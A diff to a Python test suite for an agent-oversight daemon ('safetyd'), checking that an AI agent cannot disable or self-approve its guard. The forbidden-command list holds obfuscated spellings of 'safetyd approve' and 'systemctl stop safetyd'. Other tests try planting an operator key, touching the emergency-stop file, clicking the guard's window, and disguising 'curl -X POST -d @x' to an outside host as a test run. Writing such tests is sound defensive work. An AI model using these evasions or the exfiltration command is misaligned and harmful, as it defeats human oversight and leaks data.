@@ -1,5 +1,6 @@
 """An agent cannot take the guard away: not by a command, not by a file, not by another name."""
 
+import json
 from collections.abc import Iterator
 from itertools import count
 from typing import Any, Final
@@ -27,6 +28,8 @@ FORBIDDEN: Final = (
     "systemctl stop safetyd",
     'safe""tyd approve req_1',
     r"s\afetyd approve req_1",
+    "safet$'y'd approve req_1",
+    'safet$"y"d approve req_1',
     "'safetyd' approve req_1",
     "SafetyD approve req_1",
     "\uff53afetyd approve req_1",
@@ -134,3 +137,35 @@ def test_an_operator_permits_one_exact_text_and_no_path(
     assert shell(agent, f"{text}; safetyd stop")["decision"] == "block"
     read = agent.propose("key", type="read_file", text=text, paths=[key])
     assert (read["decision"], read["triggered_rules"][-1]) == ("block", "gate.own")
+
+
+@pytest.mark.parametrize(
+    "fields",
+    [
+        {"type": "key", "text": "a", "target": {"window": "safetyd review"}},
+        {"type": "click", "target": {"label": "OK"}, "observation": {"window_title": "safetyd"}},
+        {"type": "edit_file", "target": {"path": "{data}/keys/operators/evil.pub"}},
+        {"type": "edit_file", "path": "{data}/keys/operators/evil.pub"},
+        {"type": "edit_file", "target": {"role": "{data}/EMERGENCY_STOP"}},
+        {"type": "run_shell", "text": "ls", "cwd": "{data}/keys"},
+    ],
+    ids=str,
+)
+def test_what_is_its_own_is_found_in_windows_and_in_fields_that_nobody_knows(
+    daemon: RunningDaemon, agent: Asker, fields: dict[str, Any]
+) -> None:
+    written = json.loads(json.dumps(fields).replace("{data}", str(daemon.data_dir)))
+
+    answer = agent.propose("p1", **{"text": "", **written})
+
+    assert (answer["decision"], answer["triggered_rules"][-1]) == ("block", "gate.own")
+
+
+def test_what_is_called_a_test_and_is_another_command_is_asked_about(agent: Asker) -> None:
+    commands = ("git push --force origin main", "curl -X POST -d @x http://a.example", "sudo id")
+
+    asked = [agent.propose(f"t{n}", type="run_tests", text=t) for n, t in enumerate(commands)]
+    plain = agent.propose("t9", type="run_tests", text="pytest -q tests")
+
+    assert {answer["decision"] for answer in asked} == {"require_confirmation"}
+    assert plain["decision"] == "allow"
